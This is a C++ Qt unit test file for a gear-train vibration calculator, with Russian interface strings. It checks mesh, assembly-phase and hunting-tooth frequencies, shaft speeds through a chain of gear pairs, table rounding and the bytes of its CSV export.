// The machine as a whole, without windows: Na, APF and HTF of a pair, the
// train built from the store and the input fields, the broken-chain mark,
// units and orders, the chain that follows from a speed at any shaft, the
// display rule of the table, and the CSV and clipboard texts.
#include "calc/input_text.h"
#include "machine/lines.h"
#include "machine/table_export.h"
#include "machine/train.h"
#include "machine/train_table.h"

#include <QtTest>
#include <cmath>

using aggregate::GearPair;
using namespace machine;

namespace {
using Pairs = std::vector<GearPair>;

QString cellText(const TrainTables &t, int row, int column) {
    return t.pairs.rows.at(std::size_t(row)).at(std::size_t(column)).text;
}

QStringList shaftTexts(const TrainTables &t) {
    QStringList out;
    for (const auto &row : t.shafts.rows)
        out << row[ColShaftFrequency].text;
    return out;
}

QStringList fr1Texts(const Pairs &pairs) {
    QStringList out;
    for (const GearPair &p : pairs)
        out << p.fr1;
    return out;
}

// A chain as "Далее >" walks it under a precision setting: each next Fr1 is
// the Fr2 text the main window shows for the pair before.
Pairs walked(const QList<std::array<int, 2>> &teeth, const QString &fr1, int precision) {
    Pairs pairs;
    QString next = fr1;
    for (const auto &[z1, z2] : teeth) {
        pairs.push_back({QString::number(z1), next, QString::number(z2), "0"});
        next = buildTrain(pairs, false, precision).pairs.back().fr2Text;
    }
    return pairs;
}

// 19/71, 18/84, 23/91 from a motor at 1480 об/мин.
const QList<std::array<int, 2>> kThreeStages{{19, 71}, {18, 84}, {23, 91}};
// The output speed worked out apart from the program, in об/мин:
// 1480 · 19/71 · 18/84 · 23/91 = 1480 · 7866 / 542724.
const long double kThreeStageOutput = 1480.0L * 19 * 18 * 23 / (71.0L * 84 * 91);

// The two pairs of a reducer: 13/35 at 22,5 Hz, then 8/42 on its output shaft.
Pairs reducer(const QString &secondFr1 = QStringLiteral("8,35714285714286")) {
    return {{"13", "22,5", "35", "0"}, {"8", secondFr1, "42", "0"}};
}
} // namespace

Q_DECLARE_METATYPE(Pairs)
Q_DECLARE_METATYPE(machine::Unit)
Q_DECLARE_METATYPE(machine::SpeedUnit)
Q_DECLARE_METATYPE(machine::CsvConvention)

class MachineTrainTest : public QObject {
    Q_OBJECT

private slots:
    void mesh_figures_of_whole_teeth_data() {
        QTest::addColumn<double>("z1");
        QTest::addColumn<double>("z2");
        QTest::addColumn<double>("fz");
        QTest::addColumn<quint64>("na");
        QTest::addColumn<QString>("apf");
        QTest::addColumn<QString>("htf");
        QTest::addColumn<QString>("period");
        QTest::addColumn<bool>("hunting");
        // A commercial toolbox's worked example: 8 / 42 teeth at 20 Hz.
        QTest::newRow("8 and 42 at 20 Hz: Na 2, not hunting")
            << 8.0 << 42.0 << 160.0 << quint64(2) << "80"
            << "0,952381"
            << "1,05" << false;
        // 13 / 35 at 1350 rpm: Fz 292,5 Hz.
        QTest::newRow("13 and 35 at 1350 rpm: hunting")
            << 13.0 << 35.0 << 292.5 << quint64(1) << "292,5"
            << "0,642857"
            << "1,55556" << true;
        QTest::newRow("24 and 42: Na 6, HTF over lcm 168")
            << 24.0 << 42.0 << 168.0 << quint64(6) << "28"
            << "1"
            << "1" << false;
        QTest::newRow("wheel 1 the larger: 42 and 8 as 8 and 42")
            << 42.0 << 8.0 << 160.0 << quint64(2) << "80"
            << "0,952381"
            << "1,05" << false;
        QTest::newRow("equal wheels: Na is the teeth count")
            << 30.0 << 30.0 << 750.0 << quint64(30) << "25"
            << "25"
            << "0,04" << false;
        QTest::newRow("one tooth meets everything") << 1.0 << 97.0 << 5.0 << quint64(1) << "5"
                                                    << "0,0515464"
                                                    << "19,4" << true;
        QTest::newRow("tiny: 97 and 89 teeth at 1 mHz")
            << 97.0 << 89.0 << 0.001 << quint64(1) << "0,001"
            << "1,15835E-7"
            << "8633000" << true;
        QTest::newRow("huge: 2^53 and 3 teeth")
            << 9007199254740992.0 << 3.0 << 9007199254740992.0 << quint64(1) << "9,0072E15"
            << "0,333333"
            << "3" << true;
        QTest::newRow("huge frequency 1E300") << 8.0 << 42.0 << 1e300 << quint64(2) << "5E299"
                                              << "5,95238E297"
                                              << "1,68E-298" << false;
    }
    void mesh_figures_of_whole_teeth() {
        QFETCH(double, z1);
        QFETCH(double, z2);
        QFETCH(double, fz);
        const MeshFigures m = meshFigures(z1, z2, fz);
        QVERIFY(m.known);
        QVERIFY(m.reason.isEmpty());
        QFETCH(quint64, na);
        QCOMPARE(quint64(m.na), na);
        QTEST(significantText(m.apf, 6), "apf");
        QTEST(significantText(m.htf, 6), "htf");
        QVERIFY(m.htfPeriod);
        QTEST(significantText(*m.htfPeriod, 6), "period");
        QTEST(m.hunting, "hunting");
        // HTF is never the gcd times a shaft speed, the formula some pages print.
        QVERIFY(m.htf <= m.apf);
    }

    void mesh_figures_need_whole_teeth_data() {
        QTest::addColumn<double>("z1");
        QTest::addColumn<double>("z2");
        QTest::addColumn<QString>("reason");
        QTest::newRow("Z1 of 12,5") << 12.5 << 40.0 << "число зубьев Z1 не целое";
        QTest::newRow("Z2 of 40,001") << 12.0 << 40.001 << "число зубьев Z2 не целое";
        QTest::newRow("Z1 of 0,5") << 0.5 << 40.0 << "число зубьев Z1 меньше 1";
        QTest::newRow("Z2 beyond 2^53") << 12.0 << 1e17 << "число зубьев Z2 слишком велико";
    }
    void mesh_figures_need_whole_teeth() {
        QFETCH(double, z1);
        QFETCH(double, z2);
        const MeshFigures m = meshFigures(z1, z2, 100.0);
        QVERIFY(!m.known);
        QTEST(m.reason, "reason");
        QCOMPARE(quint64(m.na), quint64(0));
        QVERIFY(!m.htfPeriod);
    }

    void zero_frequency_has_no_htf_period() {
        const MeshFigures m = meshFigures(8, 42, 0.0);
        QVERIFY(m.known);
        QCOMPARE(m.htf, 0.0);
        QVERIFY(!m.htfPeriod);
    }

    void worked_examples_in_the_table_data() {
        QTest::addColumn<Pairs>("pairs");
        QTest::addColumn<int>("precision");
        QTest::addColumn<Unit>("unit");
        QTest::addColumn<QStringList>("texts"); // Fz, Fr2, Na, APF, HTF, hunting
        QTest::newRow("8/42 at 20 Hz, no rounding")
            << Pairs{{"8", "20", "42", "0"}} << 1 << Unit::Hertz
            << QStringList{"160", "3,80952380952381", "2", "80", "0,952380952380952", "нет"};
        QTest::newRow("8/42 at 20 Hz, three decimals")
            << Pairs{{"8", "20", "42", "0"}} << 1000 << Unit::Hertz
            << QStringList{"160", "3,80952", "2", "80", "0,952381", "нет"};
        QTest::newRow("13/35 at 1350 rpm in per minute, no rounding")
            << Pairs{{"13", "22,5", "35", "0"}} << 1 << Unit::PerMinute
            << QStringList{"17550", "501,428571428571", "1", "17550", "38,5714285714286", "да"};
        QTest::newRow("13/35 at 1350 rpm in hertz, two decimals")
            << Pairs{{"13", "22,5", "35", "0"}} << 100 << Unit::Hertz
            << QStringList{"292,5", "8,35714", "1", "292,5", "0,642857", "да"};
        QTest::newRow("13/35 at 1350 rpm in per minute, two decimals")
            << Pairs{{"13", "22,5", "35", "0"}} << 100 << Unit::PerMinute
            << QStringList{"17550", "501,429", "1", "17550", "38,5714", "да"};
    }
    void worked_examples_in_the_table() {
        QFETCH(Pairs, pairs);
        QFETCH(int, precision);
        QFETCH(Unit, unit);
        QFETCH(QStringList, texts);
        const TrainTables t = trainTables(buildTrain(pairs, false, precision), {unit, 1});
        const QStringList shown{cellText(t, 0, ColFz),  cellText(t, 0, ColFr2),
                                cellText(t, 0, ColNa),  cellText(t, 0, ColApf),
                                cellText(t, 0, ColHtf), cellText(t, 0, ColHunting)};
        QCOMPARE(shown, texts);
    }

    void headers_name_the_unit_data() {
        QTest::addColumn<Unit>("unit");
        QTest::addColumn<QString>("fr1");
        QTest::addColumn<QString>("fz");
        QTest::addColumn<QString>("shaft");
        QTest::newRow("hertz") << Unit::Hertz << "Fr1, Гц"
                               << "Fz, Гц"
                               << "Частота вращения, Гц";
        QTest::newRow("per minute: rpm for shafts, CPM for the rest")
            << Unit::PerMinute << "Fr1, об/мин"
            << "Fz, CPM"
            << "Частота вращения, об/мин";
        QTest::newRow("orders of shaft 2") << Unit::Orders << "Fr1, порядки вала 2"
                                           << "Fz, порядки вала 2"
                                           << "Частота вращения, порядки вала 2";
    }
    void headers_name_the_unit() {
        QFETCH(Unit, unit);
        const TrainTables t = trainTables(buildTrain(reducer(), false, 1), {unit, 2});
        QTEST(t.pairs.headers[ColFr1], "fr1");
        QTEST(t.pairs.headers[ColFz], "fz");
        QTEST(t.shafts.headers[ColShaftFrequency], "shaft");
    }

    void shafts_and_total_ratio_follow_the_chain() {
        const Train train = buildTrain(reducer(), false, 1);
        QCOMPARE(train.shaftCount(), 3);
        const TrainTables t = trainTables(train, {Unit::Hertz, 1});
        QCOMPARE(shaftTexts(t), (QStringList{"22,5", "8,35714285714286", "1,59183673469388"}));
        // 35/13 x 42/8 = 14,1346...: the input turns that much faster than the output.
        QCOMPARE(t.totalRatio,
                 QStringLiteral("Общее передаточное отношение (вал 1 / вал 3): 14,1346153846154"));
        QCOMPARE(t.shafts.rows[1][ColShaftPlace].text,
                 QStringLiteral("колесо 2 пары 1, колесо 1 пары 2"));
    }

    void orders_refer_to_the_chosen_shaft_data() {
        QTest::addColumn<int>("shaft");
        QTest::addColumn<QStringList>("shafts");
        QTest::addColumn<QString>("fzOfPair2");
        QTest::newRow("orders of the input shaft")
            << 1 << QStringList{"1", "0,371428571428571", "0,0707482993197279"}
            << "2,97142857142857";
        QTest::newRow("orders of the middle shaft: Fz of pair 2 is Z1")
            << 2 << QStringList{"2,69230769230769", "1", "0,19047619047619"} << "8";
        QTest::newRow("orders of the output shaft")
            << 3 << QStringList{"14,1346153846154", "5,25", "1"} << "42";
        QTest::newRow("a shaft that does not exist") << 4 << QStringList{"—", "—", "—"} << "—";
    }
    void orders_refer_to_the_chosen_shaft() {
        QFETCH(int, shaft);
        const TrainTables t = trainTables(buildTrain(reducer(), false, 1), {Unit::Orders, shaft});
        QTEST(shaftTexts(t), "shafts");
        QTEST(cellText(t, 1, ColFz), "fzOfPair2");
    }

    void broken_chain_mark_data() {
        QTest::addColumn<QString>("secondFr1");
        QTest::addColumn<int>("precision");
        QTest::addColumn<bool>("broken");
        QTest::addColumn<bool>("remark"); // the quiet remark of a rounded Fr1
        QTest::newRow("Fr2 as shown without rounding") << "8,35714285714286" << 1 << false << false;
        QTest::newRow("the same value with a point") << "8.35714285714286" << 1 << false << false;
        QTest::newRow("Fr2 as shown with two decimals") << "8,36" << 100 << false << true;
        QTest::newRow("made at two decimals, now unrounded") << "8,36" << 1 << false << true;
        QTest::newRow("made unrounded, now at five decimals")
            << "8,35714285714286" << 100000 << false << false;
        QTest::newRow("a tachometer reading typed mid-chain") << "8,4" << 1 << true << false;
        QTest::newRow("one digit off") << "8,35714285714287" << 1 << true << false;
    }
    void broken_chain_mark() {
        QFETCH(QString, secondFr1);
        QFETCH(int, precision);
        QFETCH(bool, broken);
        const Train train = buildTrain(reducer(secondFr1), false, precision);
        QVERIFY(!train.pairs[0].chainBroken);
        QCOMPARE(train.pairs[1].chainBroken, broken);
        const TrainTables t = trainTables(train, {Unit::Hertz, 1});
        const TableCell note = t.pairs.rows[1][ColNote];
        QCOMPARE(note.marked, broken);
        if (broken) {
            const QString chain = train.pairs[0].fr2Text;
            QCOMPARE(train.pairs[1].chainFr1Text, chain);
            QCOMPARE(note.text, QStringLiteral("цепь разорвана: по паре 1 Fr1 = %1 Гц").arg(chain));
            // The shafts go on from the Fr1 the pair holds, as the main window does.
            QCOMPARE(train.shaft(2), std::optional<double>(train.pairs[1].fr1));
            QVERIFY(t.shafts.rows[1][ColShaftPlace].marked);
        } else {
            // The speeds follow the teeth exactly; a rounded text only gets a word.
            QFETCH(bool, remark);
            QCOMPARE(train.pairs[1].fr1, train.pairs[0].fr2);
            QCOMPARE(note.text, remark
                                    ? QStringLiteral("в паре Fr1 = %1 Гц, округлено при «Далее >»")
                                          .arg(calc::generalDecimal(train.pairs[1].typedFr1))
                                    : QString());
        }
    }

    void pair_that_does_not_calculate_data() {
        QTest::addColumn<GearPair>("second");
        QTest::addColumn<QString>("problem");
        QTest::newRow("empty Z1") << GearPair{"", "8,35714285714286", "42", "0"} << "Z1 не задано";
        QTest::newRow("Z2 not a number")
            << GearPair{"8", "8,35714285714286", "4x2", "0"} << "Z2 не число";
        QTest::newRow("negative Fr1")
            << GearPair{"8", "-1", "42", "0"} << "Fr1 должно быть больше нуля";
        QTest::newRow("teeth 0,0 divide by zero") << GearPair{"0,0", "8,35714285714286", "42", "0"}
                                                  << "Ошибка вычисления: деление на ноль.";
    }
    void pair_that_does_not_calculate() {
        QFETCH(GearPair, second);
        const Train train = buildTrain({reducer()[0], second}, false, 1);
        QVERIFY(train.pairs[0].calculated);
        QVERIFY(!train.pairs[1].calculated);
        QTEST(train.pairs[1].problem, "problem");
        QVERIFY(!train.pairs[1].chainBroken);
        QVERIFY(!train.totalRatio);
        // Shaft 2 is still known from pair 1; the output shaft is not.
        QVERIFY(train.shaft(2));
        QVERIFY(!train.shaft(3));
        const TrainTables t = trainTables(train, {Unit::Hertz, 1});
        QCOMPARE(cellText(t, 1, ColFz), QStringLiteral("—"));
        QCOMPARE(cellText(t, 1, ColZ1), second.z1);
        QVERIFY(cellText(t, 1, ColNote).contains(train.pairs[1].problem));
    }

    void non_whole_teeth_show_dashes_with_the_reason() {
        const TrainTables t =
            trainTables(buildTrain({{"12,5", "20", "40", "0"}}, false, 1), {Unit::Hertz, 1});
        QCOMPARE(cellText(t, 0, ColFz), QStringLiteral("250"));
        for (int c : {ColNa, ColApf, ColHtf, ColHtfPeriod, ColHunting}) {
            QCOMPARE(cellText(t, 0, c), QStringLiteral("—"));
            QCOMPARE(t.pairs.rows[0][std::size_t(c)].hint,
                     QStringLiteral("Нет: число зубьев Z1 не целое"));
        }
    }

    void chain_pairs_data() {
        QTest::addColumn<int>("stored");
        QTest::addColumn<int>("current");
        QTest::addColumn<bool>("calculated");
        QTest::addColumn<int>("count");
        QTest::addColumn<bool>("lastInFields");
        QTest::addColumn<int>("edited"); // the pair the fields replace, 0: none
        QTest::newRow("nothing calculated yet") << 0 << 1 << false << 0 << false << 0;
        QTest::newRow("pair 1 calculated, not stored") << 0 << 1 << true << 1 << true << 0;
        QTest::newRow("newest pair not calculated") << 2 << 3 << false << 2 << false << 0;
        QTest::newRow("newest pair calculated") << 2 << 3 << true << 3 << true << 0;
        QTest::newRow("a stored pair calculated with other texts: the fields are used")
            << 3 << 2 << true << 3 << false << 2;
        QTest::newRow("a stored pair edited but not calculated: the slot is used")
            << 3 << 2 << false << 3 << false << 0;
        QTest::newRow("all nine stored, pair 9 edited") << 9 << 9 << true << 9 << false << 9;
    }
    void chain_pairs() {
        QFETCH(int, stored);
        QFETCH(int, current);
        QFETCH(bool, calculated);
        TrainSource source;
        for (int k = 1; k <= stored; ++k)
            source.store.store(k, {"10", "1", "20", "0"});
        source.currentPair = current;
        source.shown = {"99", "1", "33", "0"};
        source.shownCalculated = calculated;
        const ChainPairs chain = chainPairs(source);
        QTEST(int(chain.pairs.size()), "count");
        QTEST(chain.lastInFields(), "lastInFields");
        if (chain.lastInFields())
            QCOMPARE(chain.pairs.back(), source.shown);
        QFETCH(int, edited);
        for (int k = 1; k <= int(chain.pairs.size()); ++k) {
            const std::size_t i = std::size_t(k - 1);
            QCOMPARE(chain.sources[i] == PairSource::Edited, k == edited);
            if (chain.sources[i] != PairSource::InFields)
                QCOMPARE(chain.pairs[i], k == edited ? source.shown : source.store.load(k));
        }
        // The write-back and the file keep to the store.
        QCOMPARE(storedChain(source).pairs.size(), chain.pairs.size());
        for (std::size_t i = 0; i < std::size_t(stored) && i < chain.pairs.size(); ++i)
            QCOMPARE(storedChain(source).pairs[i], source.store.load(int(i) + 1));
    }

    void chain_stops_at_the_first_free_slot() {
        TrainSource source;
        source.store.store(1, {"10", "1", "20", "0"});
        source.store.store(2, {"10", "1", "", "0"}); // an empty Z2: the slot counts as free
        source.store.store(3, {"10", "1", "20", "0"});
        source.currentPair = 1;
        QCOMPARE(int(chainPairs(source).pairs.size()), 1);
    }

    void speed_at_any_shaft_data() {
        QTest::addColumn<int>("shaft");
        QTest::addColumn<QString>("speed");
        QTest::addColumn<SpeedUnit>("unit");
        QTest::addColumn<int>("precision");
        QTest::addColumn<QStringList>("fr1");
        QTest::addColumn<QString>("lastFr2");
        QTest::newRow("1350 rpm at the motor")
            << 1 << "1350" << SpeedUnit::PerMinute << 1 << QStringList{"22,5", "8,35714285714286"}
            << "1,59183673469388";
        QTest::newRow("22,5 Hz at the motor, point typed")
            << 1 << "22.5" << SpeedUnit::Hertz << 1 << QStringList{"22,5", "8,35714285714286"}
            << "1,59183673469388";
        QTest::newRow("the middle shaft in hertz")
            << 2 << "8,35714285714286" << SpeedUnit::Hertz << 1
            << QStringList{"22,5", "8,35714285714286"} << "1,59183673469388";
        QTest::newRow("the output at 100 rpm")
            << 3 << "100" << SpeedUnit::PerMinute << 1 << QStringList{"23,5576923076923", "8,75"}
            << "1,66666666666667";
        QTest::newRow("two decimals: each next Fr1 as shown")
            << 3 << "100" << SpeedUnit::PerMinute << 100 << QStringList{"23,5576923076923", "8,75"}
            << "1,67";
        QTest::newRow("two decimals cascade from the motor")
            << 1 << "1000" << SpeedUnit::PerMinute << 100 << QStringList{"16,6666666666667", "6,19"}
            << "1,18";
    }
    void speed_at_any_shaft() {
        QFETCH(int, shaft);
        QFETCH(QString, speed);
        QFETCH(SpeedUnit, unit);
        QFETCH(int, precision);
        const ChainRewrite r =
            followSpeed(reducer(QStringLiteral("1")), {shaft, speed, unit}, precision);
        QVERIFY2(r.error.isEmpty(), qPrintable(r.error));
        QTEST(fr1Texts(r.pairs), "fr1");
        QTEST(r.lastFr2Text, "lastFr2");
        // Teeth and Fm stay; the rewritten chain is never broken.
        QCOMPARE(r.pairs[1].z1, QStringLiteral("8"));
        QCOMPARE(r.pairs[1].fm, QStringLiteral("0"));
        const Train train = buildTrain(r.pairs, false, precision);
        for (const TrainPair &p : train.pairs)
            QVERIFY(!p.chainBroken);
    }

    // A display setting never changes a speed: the chain walked at any
    // precision gives the speeds of the teeth counts, to the last bit.
    void walked_chain_keeps_exact_speeds_at_any_precision_data() {
        QTest::addColumn<int>("precision");
        for (const calc::PrecisionSetting &s : calc::kPrecisionSettings)
            QTest::newRow(s.caption) << int(s.factor);
    }
    void walked_chain_keeps_exact_speeds_at_any_precision() {
        QFETCH(int, precision);
        // The motor's 1480 об/мин typed in hertz as the main window shows it.
        const QString motor = calc::generalDecimal(1480.0 / 60.0);
        const Train exact = buildTrain(walked(kThreeStages, motor, 1), false, 1);
        const Train train = buildTrain(walked(kThreeStages, motor, precision), false, precision);
        QCOMPARE(train.shafts, exact.shafts);
        QVERIFY(std::fabs(*train.shaft(4) * 60.0 - double(kThreeStageOutput)) <
                1e-12 * double(kThreeStageOutput));
        const TrainTables t = trainTables(train, {Unit::PerMinute, 1});
        QCOMPARE(shaftTexts(t).value(3), tableNumber(*exact.shaft(4) * 60.0, precision));
        QVERIFY(shaftTexts(t).value(3).startsWith("21,450"));
        for (const TrainPair &p : train.pairs)
            QVERIFY(!p.chainBroken);
    }

    // The shaft whose speed is typed shows that speed, whatever the shaft and
    // the precision; every other shaft follows it through the teeth.
    void known_speed_shows_itself_data() {
        QTest::addColumn<int>("shaft");
        QTest::addColumn<QString>("speed");
        QTest::addColumn<int>("precision");
        // The output speed over the known one, from the teeth alone.
        QTest::addColumn<double>("toOutput");
        QTest::newRow("output at 21,45 об/мин, no rounding") << 4 << "21,45" << 1 << 1.0;
        QTest::newRow("output at 21,45 об/мин, two decimals") << 4 << "21,45" << 100 << 1.0;
        QTest::newRow("middle shaft at 84,87 об/мин, five decimals")
            << 3 << "84,87" << 100000 << 23.0 / 91;
        QTest::newRow("motor at 1480 об/мин, three decimals")
            << 1 << "1480" << 1000 << double(kThreeStageOutput / 1480.0L);
    }
    void known_speed_shows_itself() {
        QFETCH(int, shaft);
        QFETCH(QString, speed);
        QFETCH(int, precision);
        QFETCH(double, toOutput);
        const ChainPairs chain{walked(kThreeStages, "24,67", 100), {3, PairSource::Stored}};
        const Train train = buildTrain(chain, precision, {shaft, speed, SpeedUnit::PerMinute});
        QVERIFY2(train.followsKnown, qPrintable(train.knownProblem));
        const QStringList shown = shaftTexts(trainTables(train, {Unit::PerMinute, 1}));
        QCOMPARE(shown.value(shaft - 1), speed);
        const double output = calc::readNumber(speed).value * toOutput;
        QVERIFY2(std::fabs(*train.shaft(4) * 60.0 - output) < 1e-12 * output,
                 qPrintable(QString::number(*train.shaft(4) * 60.0, 'g', 17)));
    }

    // The one list of lines against a worked example: 8 / 42 at 20 Hz.
    void lines_of_a_worked_pair_data() {
        QTest::addColumn<QString>("name");
        QTest::addColumn<double>("value");
        const QString l = QStringLiteral("\u2212");
        QTest::newRow("mesh") << "Fz (пара 1)" << 160.0;
        QTest::newRow("assembly phase") << "APF (пара 1)" << 80.0;
        QTest::newRow("hunting tooth") << "HTF (пара 1)" << 160.0 / 168.0;
        QTest::newRow("lower sideband by three output speeds")
            << "Fz (пара 1) " + l + " 3·Fr (вал 2)" << 160.0 - 3 * 20.0 * 8 / 42;
        QTest::newRow("lower sideband by the output")
            << "Fz (пара 1) " + l + " Fr (вал 2)" << 160.0 - 20.0 * 8 / 42;
        QTest::newRow("upper sideband by two input speeds")
            << "Fz (пара 1) + 2·Fr (вал 1)" << 200.0;
        QTest::newRow("output shaft") << "Fr (вал 2)" << 20.0 * 8 / 42;
    }
    void lines_of_a_worked_pair() {
        QFETCH(QString, name);
        QFETCH(double, value);
        const std::vector<Line> lines =
            machineLines(buildTrain({{"8", "20", "42", "0"}}, false, 1), {1, false, 3});
        const auto it = std::find_if(lines.begin(), lines.end(),
                                     [&](const Line &l) { return lineName(l) == name; });
        QVERIFY2(it != lines.end(), qPrintable(name));
        QVERIFY(std::fabs(it->value - value) <= 1e-12 * value);
        QCOMPARE(std::count_if(lines.begin(), lines.end(),
                               [&](const Line &l) { return lineName(l) == name; }),
                 std::ptrdiff_t(1));
    }

    void speed_that_cannot_be_followed_data() {
        QTest::addColumn<Pairs>("pairs");
        QTest::addColumn<int>("shaft");
        QTest::addColumn<QString>("speed");
        QTest::addColumn<QString>("error");
        QTest::newRow("no pairs") << Pairs{} << 1 << "10"
                                  << "в агрегате нет рассчитанных пар";
        QTest::newRow("shaft beyond the output") << reducer() << 4 << "10"
                                                 << "вала 4 нет: у агрегата валы 1–3";
        QTest::newRow("not a number") << reducer() << 1 << "12,5,1"
                                      << "скорость «12,5,1» не число";
        QTest::newRow("zero") << reducer() << 2 << "0"
                              << "скорость должна быть больше нуля";
        QTest::newRow("empty") << reducer() << 2 << ""
                               << "скорость не задана";
        QTest::newRow("beyond any shaft") << reducer() << 2 << "1e300"
                                          << "скорость больше 100000 Гц (6000000 об/мин) — так "
                                             "быстро вал не вращается";
        QTest::newRow("just beyond the bound") << reducer() << 1 << "100000,001"
                                               << "скорость больше 100000 Гц (6000000 об/мин) — "
                                                  "так быстро вал не вращается";
        QTest::newRow("bad teeth before the shaft")
            << Pairs{{"x", "1", "35", "0"}, {"8", "1", "42", "0"}} << 3 << "10"
            << "пара 1: числа зубьев не рассчитываются";
        QTest::newRow("bad pair after the shaft")
            << Pairs{{"13", "1", "35", "0"}, {"8", "1", "", "0"}} << 1 << "10"
            << "пара 2: Z2 не задано";
    }
    void speed_that_cannot_be_followed() {
        QFETCH(Pairs, pairs);
        QFETCH(int, shaft);
        QFETCH(QString, speed);
        const ChainRewrite r = followSpeed(pairs, {shaft, speed, SpeedUnit::Hertz}, 1);
        QTEST(r.error, "error");
        QVERIFY(r.pairs.empty());
    }

    void write_back_goes_where_the_moves_would_put_it_data() {
        QTest::addColumn<int>("stored");
        QTest::addColumn<int>("current");
        QTest::addColumn<bool>("calculated");
        QTest::addColumn<int>("slotsWritten");
        QTest::addColumn<QString>("fieldsFr1"); // empty: fields untouched
        QTest::addColumn<bool>("recalculate");
        QTest::addColumn<bool>("clearCalculated");
        QTest::newRow("stored pair 1 shown") << 2 << 1 << true << 2 << "22,5" << true << true;
        QTest::newRow("stored pair 2 shown")
            << 2 << 2 << true << 2 << "8,35714285714286" << true << true;
        QTest::newRow("calculated newest pair in the fields")
            << 1 << 2 << true << 1 << "8,35714285714286" << true << false;
        QTest::newRow("uncalculated newest pair gets its Fr1 only")
            << 2 << 3 << false << 2 << "1,59183673469388" << false << false;
    }
    void write_back_goes_where_the_moves_would_put_it() {
        QFETCH(int, stored);
        QFETCH(int, current);
        QFETCH(bool, calculated);
        QFETCH(QString, fieldsFr1);
        TrainSource source;
        const Pairs pairs = reducer(QStringLiteral("1"));
        for (int k = 1; k <= stored; ++k)
            source.store.store(k, pairs[std::size_t(k - 1)]);
        source.currentPair = current;
        source.shown = current <= 2 ? pairs[std::size_t(current - 1)] : GearPair{"", "7", "", "0"};
        source.shown.fm = QStringLiteral("5"); // an edit not yet stored
        source.shownCalculated = calculated;
        const ChainRewrite r = followSpeed(storedChain(source).pairs,
                                           {1, QStringLiteral("1350"), SpeedUnit::PerMinute}, 1);
        QVERIFY2(r.error.isEmpty(), qPrintable(r.error));
        const ChainWriteBack plan = planWriteBack(source, r);
        QTEST(int(plan.slotTexts.size()), "slotsWritten");
        for (const auto &[k, texts] : plan.slotTexts)
            QCOMPARE(texts, r.pairs[std::size_t(k - 1)]);
        QVERIFY(plan.fields);
        QCOMPARE(plan.fields->fr1, fieldsFr1);
        // A stored pair is reloaded from its slot; the pair in the fields keeps its edits.
        QCOMPARE(plan.fields->fm, current <= stored ? QStringLiteral("0") : QStringLiteral("5"));
        QTEST(plan.recalculate, "recalculate");
        QTEST(plan.clearCalculated, "clearCalculated");
    }

    void table_number_keeps_six_significant_digits_data() {
        QTest::addColumn<double>("value");
        QTest::addColumn<int>("precision");
        QTest::addColumn<QString>("text");
        QTest::newRow("no rounding: fifteen digits") << 1000.0 / 3 << 1 << "333,333333333333";
        QTest::newRow("precision keeps more than six") << 1234.5678 << 100 << "1234,57";
        QTest::newRow("precision would keep three") << 3.80952380952381 << 100 << "3,80952";
        QTest::newRow("precision would give zero") << 0.0033 << 100 << "0,0033";
        QTest::newRow("tiny value in exponent form") << 1.158342e-7 << 100000 << "1,15834E-7";
        QTest::newRow("exact value unchanged") << 80.0 << 100 << "80";
        QTest::newRow("beyond the rounding range") << 1e300 << 100 << "1E300";
        QTest::newRow("negative") << -2.5 / 3 << 1000 << "-0,833333";
    }
    void table_number_keeps_six_significant_digits() {
        QFETCH(double, value);
        QFETCH(int, precision);
        QTEST(tableNumber(value, precision), "text");
    }

    // Each convention with every kind of field: a summary with a quoted note
    // of two lines and a known speed in cells of its own, headings with a
    // comma, numbers with their decimal separator, texts with a comma quoted.
    void csv_bytes_for_a_spreadsheet_data() {
        QTest::addColumn<CsvConvention>("convention");
        QTest::addColumn<QByteArray>("expected");
        QTest::newRow("Russian: semicolons, decimal comma")
            << CsvConvention::Russian
            << QByteArray("\xEF\xBB\xBF"
                          "Агрегат;Насос Н-3\r\n"
                          "Примечания;\"вход, выход\nвторая строка\"\r\n"
                          "Известная скорость;1200;об/мин;вал 1\r\n"
                          "Единицы;Гц\r\n"
                          "Общее передаточное отношение (вал 1 / вал 2);\"5,25\"\r\n"
                          "\r\n"
                          "Пара;Z1;Z2;i;\"Fr1, Гц\";\"Fr2, Гц\";\"Fz, Гц\";Na;\"APF, Гц\";"
                          "\"HTF, Гц\";\"Период HTF, с\";Охотящаяся;Примечание\r\n"
                          "1;8;42;\"5,25\";20;\"3,80952\";160;2;80;\"0,952381\";\"1,05\";нет;"
                          "\"в полях ввода, не записана в цепь («Далее >»)\"\r\n"
                          "\r\n"
                          "Вал;Название;\"Частота вращения, Гц\";Расположение\r\n"
                          "1;двигатель;20;входной: колесо 1 пары 1\r\n"
                          "2;;\"3,80952\";выходной: колесо 2 пары 1\r\n"
                          "\r\n");
        QTest::newRow("international: commas, decimal point")
            << CsvConvention::International
            << QByteArray("\xEF\xBB\xBF"
                          "Агрегат,Насос Н-3\r\n"
                          "Примечания,\"вход, выход\nвторая строка\"\r\n"
                          "Известная скорость,1200,об/мин,вал 1\r\n"
                          "Единицы,Гц\r\n"
                          "Общее передаточное отношение (вал 1 / вал 2),5.25\r\n"
                          "\r\n"
                          "Пара,Z1,Z2,i,\"Fr1, Гц\",\"Fr2, Гц\",\"Fz, Гц\",Na,\"APF, Гц\","
                          "\"HTF, Гц\",\"Период HTF, с\",Охотящаяся,Примечание\r\n"
                          "1,8,42,5.25,20,3.80952,160,2,80,0.952381,1.05,нет,"
                          "\"в полях ввода, не записана в цепь («Далее >»)\"\r\n"
                          "\r\n"
                          "Вал,Название,\"Частота вращения, Гц\",Расположение\r\n"
                          "1,двигатель,20,входной: колесо 1 пары 1\r\n"
                          "2,,3.80952,выходной: колесо 2 пары 1\r\n"
                          "\r\n");
    }
    void csv_bytes_for_a_spreadsheet() {
        QFETCH(CsvConvention, convention);
        MachineDocument d;
        d.name = "Насос Н-3";
        d.notes = "вход, выход\nвторая строка";
        d.known = {1, "1200", SpeedUnit::PerMinute};
        d.shaftNames = {"двигатель"};
        const TrainTables t =
            trainTables(buildTrain({{"8", "20", "42", "0"}}, true, 1000), {Unit::Hertz, 1}, d);
        QTEST(trainCsv(t, convention), "expected");
    }

    void csv_quotes_a_field_with_a_semicolon() {
        // A broken chain and a pair in the fields: two notes joined by "; ".
        const TrainTables t = trainTables(buildTrain(reducer("9"), true, 1), {Unit::Hertz, 1});
        const QList<QByteArray> lines = trainCsv(t).split('\n');
        QVERIFY2(lines[8].endsWith("\"цепь разорвана: по паре 1 Fr1 = 8,35714285714286 Гц; в "
                                   "полях ввода, не записана в цепь («Далее >»)\"\r"),
                 lines[8].constData());
    }

    // A text a spreadsheet would run as a formula stays text; numbers stay numbers.
